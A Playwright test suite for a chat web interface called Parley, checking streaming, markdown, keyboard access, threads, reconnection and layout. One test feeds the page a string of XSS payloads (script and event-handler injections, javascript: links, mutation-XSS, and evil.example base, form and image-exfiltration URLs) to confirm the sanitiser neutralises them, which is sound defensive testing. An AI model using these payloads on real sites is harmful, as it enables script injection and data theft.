"""What a person sees and does, in a real browser."""

import asyncio

import pytest
from playwright.async_api import expect

from bot.parts import Button, Buttons, Delta, Status, Text
from tests.browser.page import ask
from tests.page.house import DONE, House, echo, hold, refuse

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

RICH = """**Bold** and `code`.

```python
print("hello")
```

| a | b |
|---|--:|
| 1 | 2 |
"""


async def rich(_parley, _event, screen, _stop):
    screen.show(Text(RICH))
    screen.show(DONE)


async def test_an_answer_streams_into_the_thread_and_is_listed(visit):
    async with House(script=hold) as house:
        page = await visit(house)
        await ask(page, "Why is the sky blue?")
        await expect(page.locator(".answer .markdown")).to_have_text("Well,")
        await expect(page.locator("#threads button")).to_have_text(["Why is the sky blue?"])
        await expect(page.locator("#title")).to_have_text("Why is the sky blue?")
        await page.click("text=Stop")
        await expect(page.locator(".answer .markdown")).to_have_text("Well, stopped.")
        await expect(page.locator(".answer .buttons button")).to_have_text(
            ["Regenerate", "Copy", "⋯"]
        )


async def test_a_sign_says_that_parley_thinks_until_there_is_text(visit):
    go = asyncio.Event()

    async def slow(_parley, _event, screen, _stop):
        screen.show(Status("Thinking…"))
        await go.wait()
        screen.show(Delta("Done."))

    async with House(script=slow) as house:
        page = await visit(house)
        await ask(page, "hm")
        await expect(page.locator(".answer .status")).to_have_text("Thinking…")
        go.set()
        await expect(page.locator(".markdown")).to_have_text("Done.")
        await expect(page.locator(".answer .status")).to_be_hidden()


async def test_markdown_is_laid_out_and_code_is_copied(visit):
    async with House(script=rich) as house:
        page = await visit(house, permissions=["clipboard-read", "clipboard-write"])
        await ask(page, "show me")
        await expect(page.locator(".markdown strong")).to_have_text("Bold")
        await expect(page.locator(".markdown td[align=right]")).to_have_text("2")
        await page.click(".code button")
        await expect(page.locator(".code button")).to_have_text("Copied")
        assert await page.evaluate("navigator.clipboard.readText()") == 'print("hello")'


ATTACKS = """
<script>document.title = "pwned"</script>
<img src=x onerror="document.title='pwned'">
<svg onload="document.title='pwned'"></svg>
<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
<style>body{display:none}</style><base href="https://evil.example/">
<form action="https://evil.example/"><input name=x autofocus></form>

[one](javascript:document.title='pwned') [two](data:text/html,<script>1</script>)
[three](JaVaScRiPt&colon;document.title='pwned') <a href="javascript:alert(1)">four</a>
![picture](https://evil.example/?secret) ![x](x"onerror="document.title='pwned')

```"><img/src/onerror=document.title='pwned'>
<script>document.title = "pwned"</script>
```

[ref]: javascript:document.title='pwned'
[five][ref] <math><mtext></p><style><img title="</style><img src onerror=alert(1)>">
"""


async def test_what_a_model_writes_does_nothing(visit):
    async def attack(_parley, _event, screen, _stop):
        for line in ATTACKS.splitlines(keepends=True):  # every half-written state, too
            screen.show(Delta(line))
            await asyncio.sleep(0.01)
        screen.show(Text(ATTACKS))

    async with House(script=attack) as house:
        page = await visit(house)
        requests = []
        page.on("request", lambda request: requests.append(request.url))
        await ask(page, "attack me")
        await expect(page.locator("article.answer[aria-busy=false] .code")).to_be_visible()
        for link in await page.locator(".markdown a").all():
            href = await link.get_attribute("href")
            assert href is None or href.startswith("https:")
        active = "script, img, svg, iframe, style, base, form, input, math, [onerror], [onload]"
        assert await page.locator(f".markdown :is({active})").count() == 0
        assert await page.title() == "attack me · Parley"
        assert not [url for url in requests if "evil" in url]


async def test_the_persons_own_words_are_text(visit):
    async with House() as house:
        page = await visit(house)
        await ask(page, "<b onclick=x>**hello**</b>")
        await expect(page.locator(".said")).to_have_text("<b onclick=x>**hello**</b>")


async def test_everything_works_by_keyboard(visit):
    async with House(script=hold) as house:
        page = await visit(house)
        await expect(page.locator("#text")).to_be_focused()
        await page.keyboard.type("first line")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("second line")
        await page.keyboard.press("Enter")
        await expect(page.locator(".said")).to_have_text("first line\nsecond line")
        await expect(page.locator(".answer .stop")).to_be_visible()
        await page.keyboard.press("Escape")
        await expect(page.locator(".markdown")).to_have_text("Well, stopped.")
        for _ in range(3):  # the button that attaches, the answer's menu, Copy
            await page.keyboard.press("Shift+Tab")
        outline = "getComputedStyle(document.activeElement).outlineStyle"
        assert await page.evaluate("document.activeElement.textContent") == "Copy"
        assert await page.evaluate(outline) != "none"


async def test_a_slash_opens_the_palette_and_arrows_choose(visit):
    async with House(script=echo) as house:
        page = await visit(house)
        await page.keyboard.type("/")
        await expect(page.locator("#palette li b")).to_have_text(
            ["/help", "/usage", "/paint", "/ask"]
        )
        await page.keyboard.press("ArrowDown")
        await expect(page.locator("#palette [aria-selected=true] b")).to_have_text("/usage")
        await page.keyboard.press("Tab")
        await expect(page.locator("#text")).to_have_value("/usage ")
        await page.keyboard.type("me")
        await page.keyboard.press("Enter")
        await expect(page.locator(".markdown")).to_have_text("You said: /usage me")


async def test_a_refusal_is_shown_as_what_only_the_asker_sees(visit):
    async with House(script=refuse) as house:
        page = await visit(house)
        await ask(page, "hello")
        await expect(page.locator(".notice")).to_contain_text("begins anew at midnight")
        await expect(page.locator(".notice")).to_contain_text("Only you see this")


async def test_too_long_a_message_is_kept_in_the_box_with_a_sentence(visit):
    async with House() as house:
        page = await visit(house)
        await expect(page.locator("#send")).to_be_disabled()
        await page.fill("#text", "x" * 100_000)
        await expect(page.locator("#problem")).to_contain_text("32,000 is the most")
        await page.press("#text", "Enter")
        assert len(await page.input_value("#text")) == 100_000
        assert not house.parley.events


async def test_half_a_character_is_sent_as_a_replacement(visit):
    async with House() as house:
        page = await visit(house)
        await page.evaluate("document.querySelector('#text').value = 'a\\ud800b'")
        await page.press("#text", "Space")
        await page.press("#text", "Enter")
        await expect(page.locator(".markdown")).to_have_text("You said: a\ufffdb")


async def test_each_identity_has_its_own_threads(visit):
    async with House() as house:
        page = await visit(house)
        await ask(page, "a secret of Ada's")
        await expect(page.locator("#threads button")).to_have_count(1)
        await page.check("input[value=grace]", force=True)
        await expect(page.locator("#greeting")).to_contain_text("Grace")
        await expect(page.locator("#threads button")).to_have_count(0)
        await page.check("input[value=ada]", force=True)
        await page.click("#threads button")
        await expect(page.locator(".said")).to_have_text("a secret of Ada's")


async def test_after_a_restart_nothing_is_lost_and_nothing_doubled(visit):
    async with House() as house:
        page = await visit(house)
        await ask(page, "one")
        await expect(page.locator(".markdown")).to_have_text("You said: one")
        port = int(house.address.rsplit(":", 1)[1])
    await expect(page.locator("#connection")).to_have_text("Connecting…")
    await ask(page, "two")
    await expect(page.locator(".pending .said")).to_have_text("two")
    async with House(house.state, port=port) as anew:
        await expect(page.locator(".markdown")).to_have_text(["You said: one", "You said: two"])
        await expect(page.locator(".said")).to_have_text(["one", "two"])
        await expect(page.locator("#connection")).to_have_text("")
        assert len(anew.parley.events) == 1


async def test_what_parley_cannot_take_yet_is_sent_again_by_itself(visit):
    async with House() as house:
        house.parley.refuse = "The disk is full."
        page = await visit(house)
        await ask(page, "hello")
        await expect(page.locator("#problem")).to_have_text("The disk is full.")
        house.parley.refuse = ""
        await expect(page.locator(".markdown")).to_have_text("You said: hello")
        await expect(page.locator("#problem")).to_be_hidden()
        assert len(house.parley.events) == 1


async def test_the_password_form_lets_its_owner_in(browser):
    async with House(sandbox=False, page_password="open sesame") as house:
        page = await browser.new_page()
        await page.goto(house.address)
        await page.fill("#password", "wrong")
        await page.keyboard.press("Enter")
        await expect(page.locator("[role=alert]")).to_have_text("That is not the password.")
        await page.fill("#password", "open sesame")
        await page.keyboard.press("Enter")
        await expect(page.locator("#label")).to_contain_text("through the OpenAI API")
        await expect(page.locator("#people")).to_be_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1200])
async def test_the_page_fits_and_can_be_read(visit, tmp_path, scheme, width):
    async with House(script=rich) as house:
        viewport = {"width": width, "height": 800}
        page = await visit(house, color_scheme=scheme, viewport=viewport)
        await ask(page, "a question of " + "many " * 30 + "words")
        await expect(page.locator(".answer .buttons")).to_be_visible()
        assert await page.evaluate("document.documentElement.scrollWidth") <= width
        await expect(page.locator("#menu")).to_be_visible(visible=width < 700)
        background = await page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (background == "rgb(24, 23, 21)") is (scheme == "dark")
        assert await page.screenshot(path=tmp_path / "page.png")


async def test_on_a_phone_the_list_lies_over_the_page(visit):
    async with House() as house:
        page = await visit(house, viewport={"width": 390, "height": 800})
        await ask(page, "one")
        await expect(page.locator("#new")).to_be_hidden()
        await page.click("#menu")
        await expect(page.locator("#new")).to_be_focused()
        await page.click("#new")
        await expect(page.locator("#welcome")).to_be_visible()
        await expect(page.locator("#new")).to_be_hidden()


async def test_a_button_in_a_new_tab_is_pressed_on_the_same_answer(visit):
    async def twice(_parley, event, screen, _stop):
        screen.show(Text(f"by {type(event).__name__}"))
        screen.show(Buttons((Button("Regenerate", "regenerate"),)))

    async with House(script=twice) as house:
        page = await visit(house)
        await ask(page, "hello")
        await expect(page.locator(".markdown")).to_have_text("by Message")
        other = await visit(house, "/" + await page.evaluate("location.hash"))
        await other.click("text=Regenerate")
        for each in (page, other):
            await expect(each.locator(".markdown")).to_have_text(["by Invocation"])
